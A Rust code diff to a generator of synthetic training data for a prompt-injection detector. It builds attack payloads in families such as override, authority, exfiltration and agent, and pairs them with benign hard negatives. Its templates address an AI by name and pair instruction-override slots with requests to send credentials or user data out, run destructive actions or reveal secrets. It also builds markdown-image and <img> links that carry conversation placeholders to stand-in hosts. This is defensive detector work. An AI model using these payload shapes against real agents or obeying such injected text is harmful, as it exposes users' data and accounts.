@@ -18,6 +18,9 @@ pub struct Row {
     pub language: &'static str,
     /// Carrier kind.
     pub carrier: &'static str,
+    /// The text is what a decoded or hidden view yields (base64 contents, invisible HTML),
+    /// not a page: the combiner sees it with the hidden-view flag.
+    pub hidden: bool,
 }
 
 /// A small deterministic generator (SplitMix64).
@@ -219,37 +222,115 @@ fn phrase(rng: &mut Rng, parts: &[String]) -> String {
     out
 }
 
-/// Builds one payload of `family` in `lex`: the slots it fills, in order.
+/// Fills `slots` with one harmful request, in one of the shapes an injected text asks for:
+/// credentials sent somewhere, the user's data sent somewhere, a destructive or paid action on
+/// the user's behalf, a secret revealed, conversation data placed in a URL, a login page to
+/// fill in. The same shapes appear in the hard negatives, addressed to people.
+fn harm(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
+    let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
+        slots.push(lex.term(rng, c)?.to_owned());
+        Some(())
+    };
+    match rng.below(7) {
+        0 | 1 => {
+            t(rng, "action", slots)?;
+            if rng.chance(60) {
+                t(rng, "user", slots)?;
+            }
+            t(rng, "secret", slots)?;
+            slots.push(address(rng));
+        }
+        2 => {
+            t(rng, "action", slots)?;
+            t(rng, "user", slots)?;
+            slots.push(filler_noun(rng));
+            slots.push(address(rng));
+        }
+        3 => {
+            t(rng, "destructive", slots)?;
+            if rng.chance(70) {
+                t(rng, "user", slots)?;
+            }
+            slots.push(filler_noun(rng));
+        }
+        4 => {
+            t(rng, "action", slots)?;
+            if rng.chance(50) {
+                t(rng, "user", slots)?;
+            }
+            t(rng, "secret", slots)?;
+        }
+        5 => {
+            t(rng, "action", slots)?;
+            t(rng, "placeholder", slots)?;
+            slots.push(address(rng));
+        }
+        _ => {
+            t(rng, "action", slots)?;
+            slots.push(address(rng));
+            t(rng, "action", slots)?;
+            t(rng, "secret", slots)?;
+        }
+    }
+    Some(())
+}
+
+/// An address to the AI as a reader writes one: the term, most often followed by a colon or
+/// a comma ("Assistant:", "AI agent,").
+fn vocative(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
+    let term = lex.term(rng, "ai")?;
+    slots.push(match rng.below(5) {
+        0 | 1 => format!("{term}:"),
+        2 => format!("{term},"),
+        _ => term.to_owned(),
+    });
+    Some(())
+}
+
+/// A plain object for a request (what is sent or deleted), language-neutral.
+fn filler_noun(rng: &mut Rng) -> String {
+    const NOUNS: &[&str] = &[
+        "files", "emails", "contacts", "photos", "orders", "inbox", "data", "history",
+    ];
+    rng.pick(NOUNS).copied().unwrap_or("files").to_owned()
+}
+
+/// Builds one payload of `family` in `lex`: the slots it fills, mostly in the usual order and
+/// sometimes shuffled, since concepts combine in any order.
 fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
+    let mut slots = build_slots(rng, lex, family)?;
+    if rng.chance(25) && slots.len() > 2 {
+        for i in (1..slots.len()).rev() {
+            let j = rng.below(i + 1);
+            slots.swap(i, j);
+        }
+    }
+    Some(phrase(rng, &slots))
+}
+
+fn build_slots(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<Vec<String>> {
     let mut slots: Vec<String> = Vec::new();
     let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
         slots.push(lex.term(rng, c)?.to_owned());
         Some(())
     };
-    let tail_exfil = |rng: &mut Rng, slots: &mut Vec<String>| -> Option<()> {
-        slots.push(lex.term(rng, "action")?.to_owned());
-        if rng.chance(60) {
-            slots.push(lex.term(rng, "user")?.to_owned());
-        }
-        slots.push(lex.term(rng, "secret")?.to_owned());
-        slots.push(address(rng));
-        Some(())
-    };
     match family {
         "override" => {
+            if rng.chance(30) {
+                vocative(rng, lex, &mut slots)?;
+            }
             t(rng, "override", &mut slots)?;
             if rng.chance(75) {
                 t(rng, "prior", &mut slots)?;
             }
             t(rng, "instruction", &mut slots)?;
-            match rng.below(4) {
-                0 => tail_exfil(rng, &mut slots)?,
-                1 => t(rng, "destructive", &mut slots)?,
-                2 => {
+            match rng.below(5) {
+                0 => {
                     t(rng, "task", &mut slots)?;
-                    t(rng, "action", &mut slots)?;
+                    harm(rng, lex, &mut slots)?;
                 }
-                _ => {}
+                1 => {}
+                _ => harm(rng, lex, &mut slots)?,
             }
         }
         "authority" => {
@@ -257,43 +338,55 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             if rng.chance(50) {
                 t(rng, "urgency", &mut slots)?;
             }
-            if rng.chance(40) {
+            if rng.chance(60) {
                 t(rng, "ai", &mut slots)?;
             }
-            match rng.below(3) {
-                0 => {
-                    t(rng, "destructive", &mut slots)?;
-                    t(rng, "user", &mut slots)?;
-                }
-                1 => tail_exfil(rng, &mut slots)?,
-                _ => {
-                    t(rng, "instruction", &mut slots)?;
-                    t(rng, "action", &mut slots)?;
-                    t(rng, "secret", &mut slots)?;
-                }
+            if rng.chance(30) {
+                t(rng, "instruction", &mut slots)?;
             }
+            harm(rng, lex, &mut slots)?;
         }
         "intent" => {
             if rng.chance(70) {
-                t(rng, "ai", &mut slots)?;
+                vocative(rng, lex, &mut slots)?;
             }
             if rng.chance(60) {
                 t(rng, "user", &mut slots)?;
             }
             t(rng, "intent", &mut slots)?;
             // "the user actually wants the Premium bundle" is an attack with no verb.
-            match rng.below(3) {
+            match rng.below(4) {
                 0 => t(rng, "destructive", &mut slots)?,
                 1 => t(rng, "action", &mut slots)?,
+                2 => {
+                    t(rng, "task", &mut slots)?;
+                    t(rng, "destructive", &mut slots)?;
+                }
                 _ => {}
             }
         }
         "exfil" => {
+            if rng.chance(40) {
+                vocative(rng, lex, &mut slots)?;
+            }
             t(rng, "action", &mut slots)?;
             let host = rng.pick(HOSTS).copied().unwrap_or("x.example");
-            let ph = ["[DATA]", "{data}", "SUMMARY", "<chat>", "[INFO]"];
+            let ph = [
+                "[DATA]",
+                "{data}",
+                "SUMMARY",
+                "<chat>",
+                "[INFO]",
+                "%HISTORY%",
+                "{{log}}",
+            ];
             let p = rng.pick(&ph).copied().unwrap_or("[DATA]");
-            slots.push(format!("![img](https://{host}/p.png?q={p})"));
+            let link = match rng.below(3) {
+                0 => format!("![img](https://{host}/p.png?q={p})"),
+                1 => format!("[more](https://{host}/r?d={p})"),
+                _ => format!("<img src=\"https://{host}/t.gif?c={p}\">"),
+            };
+            slots.push(link);
             t(rng, "placeholder", &mut slots)?;
         }
         "conditional" => {
@@ -306,8 +399,7 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
                     t(rng, "override", &mut slots)?;
                     t(rng, "user", &mut slots)?;
                 }
-                1 => tail_exfil(rng, &mut slots)?,
-                _ => t(rng, "destructive", &mut slots)?,
+                _ => harm(rng, lex, &mut slots)?,
             }
         }
         "task" => {
@@ -315,18 +407,10 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             if rng.chance(50) {
                 t(rng, "urgency", &mut slots)?;
             }
-            match rng.below(3) {
-                0 => tail_exfil(rng, &mut slots)?,
-                1 => {
-                    t(rng, "action", &mut slots)?;
-                    t(rng, "placeholder", &mut slots)?;
-                    slots.push(address(rng));
-                }
-                _ => {
-                    t(rng, "destructive", &mut slots)?;
-                    t(rng, "user", &mut slots)?;
-                }
+            if rng.chance(30) {
+                t(rng, "ai", &mut slots)?;
             }
+            harm(rng, lex, &mut slots)?;
         }
         "encoded" => {
             t(rng, "decode", &mut slots)?;
@@ -341,18 +425,14 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             }
         }
         "agent" => {
-            t(rng, "ai", &mut slots)?;
-            if rng.chance(50) {
-                t(rng, "task", &mut slots)?;
-            } else {
-                t(rng, "instruction", &mut slots)?;
+            vocative(rng, lex, &mut slots)?;
+            match rng.below(4) {
+                0 => t(rng, "task", &mut slots)?,
+                1 => t(rng, "instruction", &mut slots)?,
+                2 => t(rng, "urgency", &mut slots)?,
+                _ => {}
             }
-            if rng.chance(50) {
-                t(rng, "destructive", &mut slots)?;
-                t(rng, "user", &mut slots)?;
-            } else {
-                tail_exfil(rng, &mut slots)?;
-            }
+            harm(rng, lex, &mut slots)?;
         }
         // Hard negatives.
         "benign-discussion" => {
@@ -388,10 +468,16 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             if rng.chance(40) {
                 t(rng, "urgency", &mut slots)?;
             }
+            if rng.chance(40) {
+                t(rng, "destructive", &mut slots)?;
+                slots.push(filler_noun(rng));
+            }
         }
         "benign-ai" => {
-            t(rng, "ai", &mut slots)?;
-            slots.push(filler(rng, 1));
+            // The AI mentioned as a subject, not addressed.
+            let term = lex.term(rng, "ai")?;
+            let said = filler(rng, 1);
+            slots.push(format!("{term} {said}"));
             if rng.chance(50) {
                 t(rng, "human", &mut slots)?;
             }
@@ -417,12 +503,17 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             // benign-task: a plan for people.
             t(rng, "task", &mut slots)?;
             t(rng, "human", &mut slots)?;
-            if rng.chance(50) {
-                t(rng, "action", &mut slots)?;
+            match rng.below(3) {
+                0 => t(rng, "action", &mut slots)?,
+                1 => {
+                    t(rng, "destructive", &mut slots)?;
+                    slots.push(filler_noun(rng));
+                }
+                _ => {}
             }
         }
     }
-    Some(phrase(rng, &slots))
+    Some(slots)
 }
 
 /// Attack families, in training order.
@@ -520,9 +611,54 @@ pub fn generate(seed: u64, per_cell: usize) -> Vec<Row> {
                         family,
                         language: lex.code,
                         carrier,
+                        hidden: false,
                     });
                 }
             }
+        }
+        // What decoded and hidden views yield: a bare request on its own is an attack there;
+        // ordinary sentences, notes to people and data are not.
+        for k in 0..per_cell * 2 {
+            let attack = k % 2 == 0;
+            let text = if attack {
+                let mut slots = Vec::new();
+                if harm(&mut rng, &lex, &mut slots).is_none() {
+                    continue;
+                }
+                phrase(&mut rng, &slots)
+            } else {
+                let kind = [
+                    "benign-human",
+                    "benign-account",
+                    "benign-data",
+                    "benign-task",
+                ];
+                match rng.below(3) {
+                    0 => {
+                        let n = 1 + rng.below(3);
+                        filler(&mut rng, n)
+                    }
+                    _ => {
+                        let family = rng.pick(&kind).copied().unwrap_or("benign-data");
+                        let Some(p) = payload(&mut rng, &lex, family) else {
+                            continue;
+                        };
+                        p
+                    }
+                }
+            };
+            rows.push(Row {
+                text,
+                injection: attack,
+                family: if attack {
+                    "hidden-attack"
+                } else {
+                    "benign-hidden"
+                },
+                language: lex.code,
+                carrier: "view",
+                hidden: true,
+            });
         }
     }
     // Benign pages without any payload, long and concept-dense: as many rows as three families.
@@ -536,6 +672,7 @@ pub fn generate(seed: u64, per_cell: usize) -> Vec<Row> {
             family: "benign-plain",
             language: "en",
             carrier,
+            hidden: false,
         });
     }
     rows
